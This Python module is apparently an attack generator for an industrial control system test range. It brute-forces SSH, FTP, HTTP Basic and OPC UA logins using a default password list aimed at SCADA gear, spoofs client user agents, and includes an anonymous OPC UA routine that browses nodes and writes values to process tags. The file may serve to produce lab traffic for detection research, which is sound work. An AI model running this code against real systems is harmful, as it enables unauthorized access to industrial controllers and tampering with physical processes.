"""Guessing passwords, and using the ones that everybody knows."""

import asyncio
import base64
import ftplib
import http.client
import time

import asyncssh

from ..serve import opcua

WORDS = ["123456", "password", "admin", "12345678", "root", "1234", "qwerty", "plant", "siemens", "scada", "operator", "letmein",
         "welcome1", "changeme", "master", "service", "default", "support", "pass", "user"]


def pairs(step):
    users = step.get("users", ["admin"])
    words = step.get("words") or WORDS[: step.get("count", len(WORDS))]
    out = [(u, w) for u in users for w in words]
    return out + [tuple(p) for p in step.get("last", [])]


def ssh(life, step):
    async def go():
        for user, word in pairs(step):
            try:
                async with asyncssh.connect(life.address(step["to"]), username=user, password=word, known_hosts=None,
                                            client_keys=None, client_version="libssh2_1.10.0", login_timeout=4) as c:
                    await c.run("id")
            except (asyncssh.Error, OSError):
                pass
            await asyncio.sleep(step.get("every", 0.2))
    asyncio.run(go())


def ftp(life, step):
    for user, word in pairs(step):
        try:
            with ftplib.FTP(life.address(step["to"]), timeout=4) as f:
                f.login(user, word)
                f.nlst()
        except (ftplib.Error, OSError, EOFError):
            pass
        time.sleep(step.get("every", 0.1))


def http_basic(life, step):
    for user, word in pairs(step):
        c = http.client.HTTPConnection(life.address(step["to"]), 80, timeout=4)
        c.request("GET", step.get("path", "/config"), headers={
            "Authorization": "Basic " + base64.b64encode(f"{user}:{word}".encode()).decode(), "User-Agent": "python-requests/2.31"})
        c.getresponse().read()
        c.close()
        time.sleep(step.get("every", 0.1))


def opc_ua(life, step):
    async def go():
        for user, word in pairs(step):
            try:
                c = await opcua.connect(life, step["to"], {"user": user, "password": word, "security": step.get("security")})
                await c.nodes.objects.get_children()
                await c.disconnect()
            except Exception:  # refusals come in many shapes
                pass
            await asyncio.sleep(step.get("every", 0.2))
    asyncio.run(go())


def opc_ua_anonymous(life, step):
    """In by the front door: no name, no signature, looks around, and writes."""
    async def go():
        from asyncua import ua
        c = await opcua.connect(life, step["to"], {})
        idx = await c.get_namespace_index(opcua.NAMESPACE)
        for child in await c.nodes.objects.get_children():
            for node in await child.get_children():
                await node.read_browse_name()
        if step.get("write"):
            tag, value = step["write"]
            await c.get_node(ua.NodeId(tag, idx)).write_value(float(value))
        await c.disconnect()
    asyncio.run(go())
